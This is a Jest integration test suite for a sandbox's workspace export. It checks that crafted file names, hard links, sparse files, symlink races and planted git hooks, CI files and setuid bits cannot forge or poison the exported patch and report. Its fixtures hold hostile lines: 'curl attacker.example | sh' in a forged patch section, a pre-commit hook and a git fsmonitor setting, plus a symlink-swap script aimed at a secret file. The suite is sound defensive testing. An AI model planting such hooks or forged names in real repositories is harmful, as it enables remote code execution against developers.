/**
 * Attacks on the artifacts a run leaves (workspace.tar, workspace.patch, the report, GET /v1/runs/:id),
 * made from inside real sandboxes: crafted names that would forge patch sections, hard links, sparse
 * files, files and directories swapped while the export runs, a large workspace (the worker's memory
 * stays bounded), and a whole run through the API that plants a git hook, a CI file and a setuid bit.
 * Every patch is also applied with GNU `patch` and `git apply` in a clean sandbox, so "not in the
 * patch" is checked the way a user would be hurt.
 */
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Docker from 'dockerode';
import * as tar from 'tar-stream';
import { loadConfig } from '../../src/config';
import type { LeasedSandbox, SandboxRequest, WorkspaceExport } from '../../src/domain/sandbox';
import { DockerSandboxProvider } from '../../src/sandbox';
import { startHarness, type Harness } from '../support/corral-harness';
import { finalTurn, scriptedAgent, toolCallTurn } from '../support/fake-openai-chat';
import { sandboxTestEnv } from '../support/sandbox-env';

jest.setTimeout(180_000);

const WORKER = `test-artifacts-${randomBytes(3).toString('hex')}`;
const docker = new Docker();
const provider = new DockerSandboxProvider({ docker, config: loadConfig(sandboxTestEnv()) });
const dirs: string[] = [];
let clean: LeasedSandbox;

/** The forged section: a complete new file `evil.sh` that runs a downloaded script. */
const FAKE = 'x\ndiff --git a/evil.sh b/evil.sh\nnew file mode 100644\n--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl attacker.example | sh';

function request(over: Partial<SandboxRequest> = {}): SandboxRequest {
  return {
    runId: `run_artifacts_${randomBytes(4).toString('hex')}`, workerId: WORKER, deadline: new Date(Date.now() + 10 * 60_000),
    files: {}, limits: { memoryMb: 128, cpus: 1, pids: 64, workspaceMb: 32 }, egressAllow: [], ...over,
  };
}

async function withSandbox<T>(over: Partial<SandboxRequest>, fn: (sb: LeasedSandbox) => Promise<T>): Promise<T> {
  const sb = await provider.acquire(request(over));
  try {
    return await fn(sb);
  } finally {
    await sb.dispose();
  }
}

const sh = async (sb: LeasedSandbox, script: string, timeoutMs = 60_000) => {
  const r = await sb.exec({ argv: ['bash', '-c', script], timeoutMs });
  if (r.exitCode !== 0) throw new Error(`setup failed (exit ${r.exitCode}): ${r.stderr}`);
  return r;
};

async function exportOf(sb: LeasedSandbox): Promise<{ x: WorkspaceExport; patch: string; tar: Buffer }> {
  const dir = mkdtempSync(join(tmpdir(), 'corral-artifacts-'));
  dirs.push(dir);
  const x = await sb.exportWorkspace({ tarPath: join(dir, 'workspace.tar'), patchPath: join(dir, 'workspace.patch') });
  return { x, patch: readFileSync(x.patch.path, 'utf8'), tar: readFileSync(x.tar.path) };
}

async function tarEntries(buf: Buffer): Promise<Array<{ name: string; type: string; mode: number; body: Buffer }>> {
  const out: Array<{ name: string; type: string; mode: number; body: Buffer }> = [];
  const ex = tar.extract();
  ex.on('entry', (h, s, next) => {
    const chunks: Buffer[] = [];
    s.on('data', (c: unknown) => chunks.push(c as Buffer));
    s.on('end', () => { out.push({ name: h.name, type: h.type, mode: h.mode, body: Buffer.concat(chunks) }); next(); });
  });
  await new Promise<void>((r) => { ex.on('finish', () => r()); ex.end(buf); });
  return out;
}

/** Applies `patch` to `seed` in a fresh directory of a clean sandbox with GNU patch and with git apply; lists what each created. */
async function applyElsewhere(seed: Record<string, string>, patch: string): Promise<{ gnu: string; git: string }> {
  const writeSeed = Object.entries(seed).map(([p, c]) => `mkdir -p "$(dirname ${JSON.stringify(p)})" && echo ${Buffer.from(c).toString('base64')} | base64 -d > ${JSON.stringify(p)}`).join(' && ') || 'true';
  const run = async (tool: string) => (await clean.exec({
    argv: ['bash', '-c', `d=$(mktemp -d) && cd "$d" && ${writeSeed} && { ${tool} >/dev/null 2>&1 || true; } && find . -type f | sort`],
    stdin: patch, timeoutMs: 20_000,
  })).stdout;
  return { gnu: await run('patch -p1 --batch'), git: await run('git apply --whitespace=nowarn -') };
}

beforeAll(async () => {
  clean = await provider.acquire(request());
});

afterAll(async () => {
  await clean?.dispose();
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
  const left = await docker.listContainers({ all: true, filters: { label: [`corral.worker-id=${WORKER}`] } });
  await Promise.all(left.map((c) => docker.getContainer(c.Id).remove({ force: true })));
});

describe('crafted names cannot forge the patch or the report', () => {
  const variants: Array<[string, string]> = [
    ['the issue\'s name: a newline, then a whole fake section (directories with newlines)', `mkdir -p "$(dirname "$N")" && printf 'hi\\n' > "$N"`],
    ['a short fake section: only headers and the + line', `M=$(printf 'y\\n+++ b/evil.sh\\n@@ -0,0 +1 @@\\n+curl attacker.example | sh') && mkdir -p "$(dirname "$M")" && printf 'hi\\n' > "$M"`],
    ['a carriage return pretending to end the line', `M=$(printf 'z\\rdiff --git a/evil.sh b/evil.sh') && mkdir -p "$(dirname "$M")" && printf 'hi\\n' > "$M"`],
    ['a right-to-left override disguising the extension', `printf 'curl attacker.example | sh\\n' > "$(printf 'evil\\u202Eht.sh')"`],
    ['a terminal escape in the name', `printf 'hi\\n' > "$(printf 'e\\033[2K\\033[1Aevil.sh')"`],
    ['bytes that are not UTF-8', `printf 'hi\\n' > "$(printf 'evil\\377.sh')"`],
  ];
  test.each(variants)('%s: refused, listed as unexportable, and no tool creates evil.sh from the patch', async (_n, plant) => {
    await withSandbox({ files: { 'real.txt': 'a\n' } }, async (sb) => {
      await sh(sb, `N=$'${FAKE.replace(/\n/g, '\\n')}'; printf 'b\\n' > real.txt; ${plant}`);
      const { x, patch, tar: t } = await exportOf(sb);
      expect(x.files.map((f) => f.path)).toEqual(['real.txt']);
      expect(patch).toBe('diff --git a/real.txt b/real.txt\n--- a/real.txt\n+++ b/real.txt\n@@ -1,1 +1,1 @@\n-a\n+b\n');
      expect(x.notExported.filter((e) => e.code === 'bad-name')).toHaveLength(1);
      expect(x.notExported[0]!.reason).toMatch(/control or bidi character|not valid UTF-8/);
      expect((await tarEntries(t)).map((e) => e.name)).toEqual(['real.txt']);
      const applied = await applyElsewhere({ 'real.txt': 'a\n' }, patch);
      expect(applied).toEqual({ gnu: './real.txt\n', git: './real.txt\n' });
    });
  });
});

test('hard links are exported as content: nothing is reported deleted, both names carry the bytes', async () => {
  await withSandbox({ files: { 'orig.txt': 'L\n', 'sub/keep.txt': 'k\n' } }, async (sb) => {
    await sh(sb, 'ln orig.txt hard.txt && ln orig.txt sub/third.txt && ln sub/keep.txt again.txt && printf "M\\n" >> orig.txt');
    const { x, patch, tar: t } = await exportOf(sb);
    expect(x.files.map((f) => `${f.change} ${f.path}`)).toEqual(['added again.txt', 'added hard.txt', 'modified orig.txt', 'added sub/third.txt']);
    expect(x.files.some((f) => f.change === 'deleted')).toBe(false);
    const entries = Object.fromEntries((await tarEntries(t)).filter((e) => e.type === 'file').map((e) => [e.name, e.body.toString()]));
    expect(entries).toEqual({ 'again.txt': 'k\n', 'hard.txt': 'L\nM\n', 'orig.txt': 'L\nM\n', 'sub/keep.txt': 'k\n', 'sub/third.txt': 'L\nM\n' });
    const applied = await applyElsewhere({ 'orig.txt': 'L\n', 'sub/keep.txt': 'k\n' }, patch);
    expect(applied.git).toBe('./again.txt\n./hard.txt\n./orig.txt\n./sub/keep.txt\n./sub/third.txt\n');
  });
});

test('a 20 GB sparse file is skipped by its apparent size before a byte is read; the rest is exported', async () => {
  await withSandbox({ files: { 'a.txt': 'a\n', 'seed.bin': 'seed\n' } }, async (sb) => {
    // seed.bin becomes sparse too: it is "not exported", never "deleted".
    await sh(sb, 'truncate -s 20G big.bin && truncate -s 20G seed.bin && truncate -s 100M mid.bin && printf "b\\n" > a.txt && du -k big.bin seed.bin mid.bin');
    const t0 = Date.now();
    const { x, patch } = await exportOf(sb);
    const ms = Date.now() - t0;
    expect(x.notExported.map((e) => [e.path, e.code, e.size])).toEqual([
      ['big.bin', 'too-large', 20 * 1024 ** 3],
      ['mid.bin', 'total-cap', 100 * 1024 ** 2],
      ['seed.bin', 'too-large', 20 * 1024 ** 3],
    ]);
    expect(x.notExported[0]!.reason).toBe('its size (21474836480 bytes) is over the per-file cap (268435456 bytes)');
    expect(x.files.map((f) => `${f.change} ${f.path}`)).toEqual(['modified a.txt']);
    expect(patch).not.toContain('seed.bin');
    // Far below the ~58 s the old export spent reading zeros before it failed (a log line, not a timing assertion).
    process.stdout.write(`[artifacts] export with two 20 GB sparse files: ${ms} ms\n`);
  });
});

test('files swapped for symlinks to /home/agent during the export never bring its content out', async () => {
  const marker = `SECRET-${randomBytes(6).toString('hex')}`;
  await withSandbox({}, async (sb) => {
    await sh(sb, `printf '${marker}\\n' > /home/agent/secret.txt && mkdir d && printf 'ok\\n' > d/secret.txt && printf 'ok\\n' > f.txt
nohup python3 -c '
import os
for i in range(1000000):
    os.rename("d", "d.real"); os.symlink("/home/agent", "d"); os.unlink("d"); os.rename("d.real", "d")
    os.rename("f.txt", "f.real"); os.symlink("/home/agent/secret.txt", "f.txt"); os.unlink("f.txt"); os.rename("f.real", "f.txt")
' >/dev/null 2>&1 &`);
    for (let i = 0; i < 15; i++) {
      const { tar: t } = await exportOf(sb).catch((err: Error) => { throw new Error(`export ${i} failed: ${err.message}`); });
      expect(t.includes(Buffer.from(marker))).toBe(false);
    }
    expect((await sb.exec({ argv: ['pgrep', '-f', 'os.rename'], timeoutMs: 5000 })).exitCode).toBe(0); // the swapper was running throughout
  });
});

test('a file growing while it is exported: the tar stays consistent and within the caps', async () => {
  await withSandbox({}, async (sb) => {
    await sh(sb, 'nohup bash -c "while :; do head -c 65536 /dev/zero >> grow.bin; truncate -s 0 grow.bin; done" >/dev/null 2>&1 & until [ -e grow.bin ]; do sleep 0.05; done');
    for (let i = 0; i < 5; i++) {
      const { x, tar: t } = await exportOf(sb);
      const entries = await tarEntries(t);
      expect(entries.every((e) => e.type !== 'file' || e.body.length <= 32 * 1024 * 1024)).toBe(true);
      expect(x.stats.files).toBeLessThanOrEqual(1);
    }
  });
});

test('exporting a sandbox whose container was killed fails at once with a clear error and leaves no files', async () => {
  await withSandbox({}, async (sb) => {
    await docker.getContainer(sb.id).kill();
    const dir = mkdtempSync(join(tmpdir(), 'corral-artifacts-'));
    dirs.push(dir);
    await expect(sb.exportWorkspace({ tarPath: join(dir, 'workspace.tar'), patchPath: join(dir, 'workspace.patch') })).rejects.toMatchObject({ code: 'sandbox_failed', message: expect.stringMatching(/not running/) });
    expect(readdirSync(dir)).toEqual([]);
  });
});

test('links, fifos and sockets are listed as not exported', async () => {
  await withSandbox({}, async (sb) => {
    await sh(sb, 'ln -s /etc/passwd lnk && mkfifo pipe && python3 -c "import socket; socket.socket(socket.AF_UNIX).bind(\'sock\')" && printf x > ok.txt');
    const { x } = await exportOf(sb);
    expect(x.notExported.map((e) => [e.path, e.code])).toEqual([['lnk', 'symlink'], ['pipe', 'special'], ['sock', 'special']]);
    expect(x.notExported[0]!.reason).toBe('a symbolic link (to /etc/passwd); links are not exported');
    expect(x.files.map((f) => f.path)).toEqual(['ok.txt']);
  });
});

test('exporting a 350 MB workspace keeps the worker\'s memory bounded (streamed to disk, one file at a time)', async () => {
  await withSandbox({ limits: { memoryMb: 256, cpus: 1, pids: 64, workspaceMb: 400 } }, async (sb) => {
    await sh(sb, 'for i in $(seq 1 25); do head -c 10485760 /dev/urandom > f$i.bin; done && for i in $(seq 1 2); do head -c 52428800 /dev/urandom > big$i.bin; done', 120_000);
    global.gc?.();
    const base = process.memoryUsage();
    let peak = { rss: base.rss, ab: base.arrayBuffers };
    const grew = () => ({ rss: peak.rss - base.rss, ab: peak.ab - base.arrayBuffers });
    const iv = setInterval(() => {
      const m = process.memoryUsage();
      peak = { rss: Math.max(peak.rss, m.rss), ab: Math.max(peak.ab, m.arrayBuffers) };
    }, 10);
    const { x } = await exportOf(sb).finally(() => clearInterval(iv));
    expect(x.tar.bytes).toBeGreaterThan(350 * 1024 * 1024);
    const mb = (n: number) => Math.round(n / 1024 / 1024);
    process.stdout.write(`[artifacts] 350 MB export: ${x.stats.ms} ms, RSS +${mb(grew().rss)} MB, array buffers +${mb(grew().ab)} MB\n`);
    // The old export held 3-4 copies (> 1 GB here); a bounded one stays far below one copy.
    expect(grew().ab).toBeLessThan(128 * 1024 * 1024);
  });
});

describe('a whole run plants a hook, a CI file and a setuid bit: the report and GET /v1/runs/:id flag them', () => {
  const SETUP = `import os
os.makedirs('.git/hooks', exist_ok=True)
open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\ncurl attacker.example | sh\\n')
os.chmod('.git/hooks/pre-commit', 0o755)
open('.git/config', 'w').write('[core]\\n\\tfsmonitor = "curl attacker.example | sh"\\n')
os.makedirs('.github/workflows', exist_ok=True)
open('.github/workflows/ci.yml', 'w').write('on: push\\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: env}]}}\\n')
open('tool.sh', 'w').write('#!/bin/sh\\necho hi\\n')
os.chmod('tool.sh', 0o4755)
name = ${JSON.stringify(FAKE)}
os.makedirs(os.path.dirname(name), exist_ok=True)
open(name, 'w').write('hi\\n')
os.link('orig.txt', 'hard.txt')
with open('sparse.bin', 'wb') as f:
    f.truncate(20 * 1024 ** 3)
open('README.md', 'a').write('changed\\n')
`;
  let h: Harness;
  let run: Record<string, unknown>;
  let report: string;
  beforeAll(async () => {
    const chat = scriptedAgent({
      'PLANT-TASK': [toolCallTurn([{ name: 'bash', id: 'c_setup', args: { command: 'python3 tools/setup.py' } }]), finalTurn('Set up the project.')],
    });
    // The artifacts' own review, alone: with the per-call effect check on, these changes are undone after
    // the call that makes them and never reach the artifacts (test/integration/effects-exits.test.ts).
    h = await startHarness('artifacts', { chat }, { CORRAL_EFFECT_CHECK: 'false' });
    const r = await h.api<{ id: string }>('POST', '/v1/runs', {
      task: 'PLANT-TASK: run tools/setup.py', workspace: { files: { 'README.md': '# project\n', 'orig.txt': 'L\n', 'tools/setup.py': SETUP } },
    });
    expect(r.status).toBe(201);
    run = await h.waitFor(r.body.id, undefined, 120_000);
    report = readFileSync(run.reportPath as string, 'utf8');
  });
  afterAll(async () => {
    await h?.close();
  });

  test('the run succeeded and its tool call really ran', () => {
    expect(run).toMatchObject({ status: 'succeeded' });
    expect(report).toContain('python3 tools/setup.py');
  });

  test('GET /v1/runs/:id lists the flags and what was not exported', () => {
    const w = run.workspace as { needsReview: Array<{ path: string; rule: string }>; notExported: Array<{ path: string; code: string }>; filesChanged: number; gitFilesChanged: number; needsReviewTotal: number };
    expect(w.needsReview.map((f) => `${f.rule} ${f.path}`)).toEqual([
      'git-config .git/config', 'git-hook .git/hooks/pre-commit', 'executable .git/hooks/pre-commit', 'ci .github/workflows/ci.yml', 'executable tool.sh', 'setuid tool.sh',
    ]);
    expect(w.needsReviewTotal).toBe(6);
    expect(w.notExported.map((e) => `${e.code} ${e.path}`)).toEqual(['too-large sparse.bin', `bad-name ${FAKE.split('/')[0]}`]);
    expect(w).toMatchObject({ filesChanged: 4, gitFilesChanged: 2 });
  });

  test('the report has a Needs review section, the real files changed, and the unexportable name escaped', () => {
    const section = (name: string) => report.split(/\n(?=## )/).find((s) => s.startsWith(`## ${name}\n`)) ?? '';
    const review = section('Needs review');
    expect(review).toContain('⚠ **6 changes to review before using the artifacts**');
    expect(review).toContain('| `.git/hooks/pre-commit` | `git-hook` |');
    expect(review).toContain('| `tool.sh` | `setuid` | workspace | the setuid bit was set (mode 4755)');
    const files = section('Files changed');
    expect(files.match(/^\| `[^`]+` \|/gm)).toEqual(['| `.github/workflows/ci.yml` |', '| `README.md` |', '| `hard.txt` |', '| `tool.sh` |']);
    expect(files).toContain('2 files under `.git/` changed as well');
    expect(report).not.toContain('evil.sh b/evil.sh\n');
    const left = section('Not exported');
    expect(left).toContain('`x\\u000adiff --git a`');
    expect(left).toContain('| `sparse.bin` | over the per-file size cap |');
  });

  test('the patch has exactly those files, never .git/, and applies with git', async () => {
    const patch = readFileSync((run.artifacts as Array<{ name: string; path: string }>).find((a) => a.name === 'workspace.patch')!.path, 'utf8');
    expect(patch.match(/^diff --git a\/(\S+)/gm)).toEqual(['diff --git a/.github/workflows/ci.yml', 'diff --git a/README.md', 'diff --git a/hard.txt', 'diff --git a/tool.sh']);
    expect(patch).not.toMatch(/\.git\//);
    const applied = await applyElsewhere({ 'README.md': '# project\n', 'orig.txt': 'L\n' }, patch);
    expect(applied.git).toBe('./.github/workflows/ci.yml\n./README.md\n./hard.txt\n./orig.txt\n./tool.sh\n');
  });

  test('the OpenAPI document describes the flags', async () => {
    const doc = await h.api('GET', '/openapi.json');
    expect(JSON.stringify(doc.body)).toContain('needsReview');
  });
});
